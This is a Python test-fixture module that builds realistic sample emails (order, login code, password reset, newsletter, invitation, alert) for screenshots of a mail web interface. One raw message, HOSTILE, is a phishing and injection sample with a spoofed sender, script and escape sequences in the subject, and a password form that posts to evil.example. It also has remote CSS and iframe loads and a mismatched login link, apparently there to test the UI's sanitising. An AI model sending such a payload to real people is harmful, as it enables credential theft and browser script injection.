"""Mail as apps really send it, for pictures of the web page: a shop, a login, an invitation, a newsletter."""

from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from email.utils import format_datetime, formataddr

from tests.ui.mails import nested, png, travelled

_STYLE = """body{margin:0;background:#f2f4f7;font:15px/1.5 -apple-system,Segoe UI,Roboto,sans-serif;color:#1d2939}
.card{max-width:560px;margin:28px auto;background:#fff;border:1px solid #e4e7ec;border-radius:12px;overflow:hidden}
.top{background:#155eef;color:#fff;padding:22px 32px;font-size:20px;font-weight:600}.in{padding:24px 32px}
.button{display:inline-block;background:#155eef;color:#fff;text-decoration:none;padding:11px 20px;border-radius:8px}
td{padding:8px 0;border-bottom:1px solid #e4e7ec}.r{text-align:right}.code{font:600 34px ui-monospace,monospace;
letter-spacing:10px;margin:18px 0}.small{color:#667085;font-size:13px}
@media(prefers-color-scheme:dark){body{background:#101828;color:#e4e7ec}.card{background:#1d2939;border-color:#344054}
td{border-color:#344054}.small{color:#98a2b3}}"""


def _page(title: str, body: str) -> str:
    return (
        f"<!doctype html><html lang=en><head><meta charset=utf-8><meta name=viewport content='width=device-width'>"
        f"<meta name=color-scheme content='light dark'><title>{title}</title><style>{_STYLE}</style></head>"
        f"<body><div class=card><div class=top>{title}</div><div class=in>{body}</div></div></body></html>"
    )


def _mail(sender: tuple[str, str], to: tuple[str, str], subject: str, text: str, html: str = "") -> EmailMessage:
    mail = EmailMessage()
    mail["From"], mail["To"] = formataddr(sender), formataddr(to)
    mail["Subject"] = subject
    mail["Date"] = format_datetime(datetime.now(UTC) - timedelta(seconds=2))
    mail.set_content(text)
    if html:
        mail.add_alternative(html, subtype="html")
    return mail


ANN = ("Ann Example", "ann@example.org")
SHOP = ("Blue Bottle Shop", "orders@shop.example.com")


def order() -> EmailMessage:
    """The long one: HTML with a table, a tracking pixel, an inline picture, an invoice."""
    html = _page(
        "Your order has shipped",
        "<p>Hi Ann,</p><p>your order <b>№ 4711</b> is on its way.</p><img src='cid:parcel' width=48 alt='A parcel'>"
        "<table width=100% cellspacing=0><tr><td>Water bottle, blue, 0.7 l<td class=r>2 × €18.00"
        "<tr><td>Lid with straw<td class=r>€6.50<tr><td>Delivery<td class=r>€4.90"
        "<tr><td><b>Total</b><td class=r><b>€47.40</b></table>"
        "<p><a class=button href='https://shop.example.com/track/4711'>Track the parcel</a></p>"
        "<p class=small>Questions? <a href='mailto:help@shop.example.com'>help@shop.example.com</a> · "
        "<a href='https://shop.example.com/unsubscribe?u=42'>Unsubscribe</a></p>"
        "<img src='https://metrics.example.net/open.gif?u=42' width=1 height=1 alt=''>",
    )
    mail = _mail(SHOP, ANN, "Your order № 4711 has shipped", "Hi Ann,\n\nyour order № 4711 is on its way:\n"
                 "https://shop.example.com/track/4711\n\n  2 x Water bottle, blue, 0.7 l   €36.00\n"
                 "  Lid with straw                  €6.50\n  Delivery                        €4.90\n",
                 html)  # fmt: skip
    mail["X-Tags"] = "orders"
    mail["List-Unsubscribe"] = "<https://shop.example.com/unsubscribe?u=42>"
    mail["List-Unsubscribe-Post"] = "List-Unsubscribe=One-Click"
    related = mail.get_payload(1)
    assert isinstance(related, EmailMessage)
    related.add_related(png(48, 36), "image", "png", cid="<parcel>", filename="parcel.png", disposition="inline")
    mail.add_attachment(b"%PDF-1.4\n%%EOF\n" * 800, maintype="application", subtype="pdf", filename="invoice-4711.pdf")
    return mail


def code() -> EmailMessage:
    html = _page(
        "Sign in to Acme",
        "<p>Here is the code that you asked for:</p><div class=code>204 861</div>"
        "<p class=small>It holds for ten minutes. If it was not you, there is nothing to do.</p>",
    )
    return _mail(("Acme", "no-reply@acme.example"), ANN, "204 861 is your login code",
                 "Your login code is 204 861. It holds for ten minutes.", html)  # fmt: skip


def reset() -> EmailMessage:
    link = "https://acme.example/reset?token=9b1f6c0e7a"
    html = _page("Reset your password", f"<p>Hi Bo,</p><p><a class=button href='{link}'>Choose a new password</a></p>"
                 "<p class=small>The link works once, within an hour.</p>")  # fmt: skip
    return _mail(("Acme", "no-reply@acme.example"), ("Bo", "bo@example.org"), "Reset your password",
                 f"Choose a new password: {link}", html)  # fmt: skip


def newsletter() -> EmailMessage:
    html = _page("What is new in November", "<h2>Dark mode, at last</h2><p>The whole app follows your system now.</p>"
                 "<h2>Faster search</h2><p>Results come as you type.</p>")  # fmt: skip
    mail = _mail(("Acme News", "news@acme.example"), ("Readers", "readers@example.org"), "What is new in November",
                 "Dark mode, at last.\nFaster search.", html)  # fmt: skip
    mail["X-Tags"] = "newsletter"
    mail["List-Unsubscribe"] = "<mailto:leave@acme.example>"
    return mail


def invitation() -> EmailMessage:
    mail = _mail(("Carol Meier", "carol@example.com"), ANN, "Invitation: Release planning, Thursday 10:00",
                 "Carol invites you to Release planning, Thursday 10:00 to 10:45.")  # fmt: skip
    event = (
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nPRODID:-//example//EN\r\nBEGIN:VEVENT\r\nUID:1@example.com\r\n"
        "DTSTAMP:20261124T080000Z\r\nDTSTART:20261126T090000Z\r\nDTEND:20261126T094500Z\r\nSUMMARY:Release planning\r\n"
        "LOCATION:Room 3\r\nORGANIZER;CN=Carol Meier:mailto:carol@example.com\r\n"
        "ATTENDEE;CN=Ann Example;RSVP=TRUE:mailto:ann@example.org\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    )
    mail["Message-ID"] = "<1@example.com>"
    mail.add_alternative(event, subtype="calendar", params={"method": "REQUEST"})
    return mail


def forwarded() -> EmailMessage:
    """An answer in a thread, with the mail that it is about inside."""
    mail = nested(invitation(), subject="Fwd: Invitation: Release planning")
    mail["Message-ID"], mail["In-Reply-To"] = "<2@example.com>", "<1@example.com>"
    return mail


def japanese() -> EmailMessage:
    return _mail(("予約センター", "yoyaku@example.jp"), ("山田 花子", "hanako@example.jp"), "ご予約の確認",
                 "山田様\n\nご予約ありがとうございます。\n日時: 2026年12月3日 18:30\n")  # fmt: skip


def alarm() -> EmailMessage:
    mail = _mail(("Monitor", "alerts@ops.example"), ("On call", "oncall@ops.example"), "[FIRING] disk 91 % on db-2",
                 "db-2: /var/lib/postgresql is 91 % full.\nRunbook: https://ops.example/runbooks/disk\n")  # fmt: skip
    mail["X-Priority"] = "1"
    mail["X-Tags"] = "alerts"
    return mail


HOSTILE = (
    b'From: =?utf-8?q?Your_Bank=E2=80=AE?= <"a@bank.example"@evil.example>\r\nTo: ann@example.org\r\n'
    b"Subject: =?utf-8?q?=1B[31m_urgent_<script>alert(1)</script>?=\r\nMIME-Version: 1.0\r\n"
    b"Content-Type: text/html; charset=utf-8\r\n\r\n"
    b"<meta http-equiv=refresh content='0;url=https://evil.example/'><script>alert(1)</script>"
    b"<style>@import 'https://evil.example/a.css';body{background:url(https://evil.example/b.png)}</style>"
    b"<h1>Your account is locked</h1><form action=https://evil.example/><input name=password></form>"
    b"<img src=https://evil.example/pixel.gif onerror=alert(1)><iframe src=https://evil.example/></iframe>"
    b"<p>Act now: <a href=https://evil.example/login>https://bank.example/login</a></p>\r\n"
)


def all_of_them() -> list[EmailMessage | bytes]:
    """In the order in which they are sent: the order is seen first."""
    return [
        HOSTILE,
        travelled(),
        japanese(),
        newsletter(),
        alarm(),
        forwarded(),
        invitation(),
        reset(),
        code(),
        order(),
    ]


def of_a_run() -> list[tuple[str, EmailMessage]]:
    """Mail of the inboxes of one test run."""
    return [("build-4711.test-signup", code()), ("build-4711.test-reset", reset()), ("build-4711.test-signup", order())]
